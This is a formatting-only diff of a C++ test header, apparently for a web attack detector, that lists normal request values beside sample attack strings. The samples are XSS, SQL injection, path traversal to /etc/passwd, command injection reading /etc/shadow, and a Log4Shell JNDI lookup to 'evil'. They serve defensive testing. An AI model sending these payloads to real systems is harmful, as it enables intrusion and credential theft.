@@ -19,17 +19,30 @@
 namespace tessel::orvik::testing {
 
 inline const std::vector<std::string>& normal_values() {
-  static const std::vector<std::string> v = {
-      "id=15",        "page=2",           "sort=name",  "lang=en",        "user=alice",
-      "theme=dark",   "q=shoes",          "color=red",  "size=large",     "ref=home",
-      "/index.html",  "/api/v1/users",    "/shop/cart", "Mozilla/5.0 (X11; Linux x86_64)",
-      "https://shop.test/cart", "accept: text/html", "session=abc123", "name=Bob Smith"};
+  static const std::vector<std::string> v = {"id=15",
+                                             "page=2",
+                                             "sort=name",
+                                             "lang=en",
+                                             "user=alice",
+                                             "theme=dark",
+                                             "q=shoes",
+                                             "color=red",
+                                             "size=large",
+                                             "ref=home",
+                                             "/index.html",
+                                             "/api/v1/users",
+                                             "/shop/cart",
+                                             "Mozilla/5.0 (X11; Linux x86_64)",
+                                             "https://shop.test/cart",
+                                             "accept: text/html",
+                                             "session=abc123",
+                                             "name=Bob Smith"};
   return v;
 }
 
 inline const std::vector<std::string>& attack_values() {
   static const std::vector<std::string> v = {
-      "<script>alert(1)</script>", "' or 1=1 --",          "/../../../etc/passwd", "union select password from users",
+      "<script>alert(1)</script>",    "' or 1=1 --",       "/../../../etc/passwd",  "union select password from users",
       "<img src=x onerror=alert(1)>", "; cat /etc/shadow", "${jndi:ldap://evil/a}", "1' and sleep(5)#"};
   return v;
 }
@@ -80,8 +93,13 @@ inline RequestRecord request(const std::string& request_id, const std::string& v
   for (const auto& z : core::zones()) {
     auto it = zones.find(z);
     const std::string v = it == zones.end() ? std::string() : it->second;
-    (z == "url" ? r.url : z == "args" ? r.args : z == "cookie" ? r.cookie : z == "ua" ? r.ua : z == "referer" ? r.referer
-     : z == "other_headers" ? r.other_headers : r.body) = v;
+    (z == "url"             ? r.url
+     : z == "args"          ? r.args
+     : z == "cookie"        ? r.cookie
+     : z == "ua"            ? r.ua
+     : z == "referer"       ? r.referer
+     : z == "other_headers" ? r.other_headers
+                            : r.body) = v;
     r.orig_zone_data.emplace_back(z, base64_encode(v));
   }
   return r;
@@ -91,7 +109,7 @@ inline RequestRecord request(const std::string& request_id, const std::string& v
 struct Recorded {
   std::mutex mu;
   std::vector<std::pair<std::string, RequestTable>> staged;  // ml_vhost, rows
-  std::vector<std::pair<int, Json>> published;                // kind, rows
+  std::vector<std::pair<int, Json>> published;               // kind, rows
   int mt_loads = 0;
 };
 
